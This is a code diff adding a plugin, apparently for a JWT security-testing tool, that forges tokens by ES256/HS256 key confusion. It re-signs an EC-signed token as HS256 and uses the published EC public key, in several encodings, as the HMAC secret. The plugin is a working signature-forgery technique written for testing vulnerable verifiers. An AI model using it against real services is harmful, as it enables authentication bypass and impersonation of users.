@@ -0,0 +1,121 @@
+/**
+ * ES256/HS256 Key Confusion Attack
+ *
+ * The elliptic-curve counterpart of key-confusion: takes the EC public key
+ * the token was signed with, exactly as the JWKS publishes it, and uses
+ * its encoded bytes as an HMAC secret to sign an HS256 token under the
+ * same `kid`. A library that looks the key up by `kid` and hands it to a
+ * generic `verify(token, key)` lets the token's own `alg` pick HMAC, and
+ * accepts a signature anyone who fetched the JWKS could make.
+ *
+ * By default the secret is the key's JWK: the compact JSON of its entry in
+ * the JWKS, members in the order served, which is what a client that
+ * passes the fetched key through verbatim would HMAC with. Other libraries
+ * convert the key first, so the encoding is configurable.
+ *
+ * Only tokens signed with an EC key (ES256, ES384, ES512) are forged;
+ * sign the session's tokens with one by registering it under
+ * /admin/keys and naming it as the session's `keyId`.
+ *
+ * Config:
+ * - keyEncoding: the bytes used as the HMAC secret - "jwk" (default), "pem"
+ *   (SPKI PEM), "der" (SPKI DER) or "raw" (the uncompressed point, 0x04 || x || y)
+ *
+ * Spec: RFC 8725 Section 3.1 - libraries must let callers pin the
+ * algorithm, and each key must be used with exactly one algorithm
+ * CWE-347: Improper Verification of Cryptographic Signature
+ */
+
+import { type JsonWebKey, createPublicKey } from "node:crypto";
+import type { JWK } from "jose";
+import type { MischiefPlugin } from "../types.js";
+
+export type KeyEncoding = "jwk" | "pem" | "der" | "raw";
+
+export const KEY_ENCODINGS: KeyEncoding[] = ["jwk", "pem", "der", "raw"];
+
+export const ecKeyConfusion: MischiefPlugin = {
+	id: "ec-key-confusion",
+	name: "ES256/HS256 Key Confusion",
+	severity: "critical",
+	phase: "token-signing",
+
+	spec: {
+		rfc: "RFC 8725 Section 3.1",
+		cwe: "CWE-347",
+		description: "Clients MUST pin the expected algorithm rather than trust the token's alg",
+	},
+
+	description: "Signs an EC-signed token with HS256 using the published EC key as HMAC secret",
+
+	options: [
+		{
+			name: "keyEncoding",
+			type: "string",
+			values: KEY_ENCODINGS,
+			default: "jwk",
+			description: "The encoding of the EC public key used as the HMAC secret",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+
+		const keyEncoding = (ctx.config.keyEncoding as KeyEncoding | undefined) ?? "jwk";
+		if (!KEY_ENCODINGS.includes(keyEncoding)) {
+			return {
+				applied: false,
+				mutation: `Unknown keyEncoding: ${keyEncoding}`,
+				evidence: { keyEncoding },
+			};
+		}
+
+		const originalAlg = ctx.token.header.alg;
+		const jwk = ctx.token.publishedJwk;
+		if (!originalAlg.startsWith("ES") || jwk?.kty !== "EC") {
+			return {
+				applied: false,
+				mutation: `Token uses ${originalAlg}, not an EC key`,
+				evidence: { originalAlg },
+			};
+		}
+
+		const secret = encodeKey(jwk, keyEncoding);
+		ctx.token.header.alg = "HS256";
+		await ctx.token.sign("HS256", secret);
+
+		return {
+			applied: true,
+			mutation: `Changed ${originalAlg} to HS256, keyed with the EC public key's ${keyEncoding}`,
+			evidence: {
+				originalAlg,
+				newAlg: "HS256",
+				kid: jwk.kid ?? null,
+				keyEncoding,
+				secret: typeof secret === "string" ? secret : secret.toString("base64url"),
+			},
+		};
+	},
+};
+
+/**
+ * The bytes a client holding the published key would use as the HMAC secret
+ */
+function encodeKey(jwk: JWK, encoding: KeyEncoding): string | Buffer {
+	if (encoding === "jwk") {
+		return JSON.stringify(jwk);
+	}
+	if (encoding === "raw") {
+		return Buffer.concat([
+			Buffer.from([0x04]),
+			Buffer.from(String(jwk.x), "base64url"),
+			Buffer.from(String(jwk.y), "base64url"),
+		]);
+	}
+	const key = createPublicKey({ key: jwk as JsonWebKey, format: "jwk" });
+	return encoding === "pem"
+		? (key.export({ type: "spki", format: "pem" }) as string)
+		: (key.export({ type: "spki", format: "der" }) as Buffer);
+}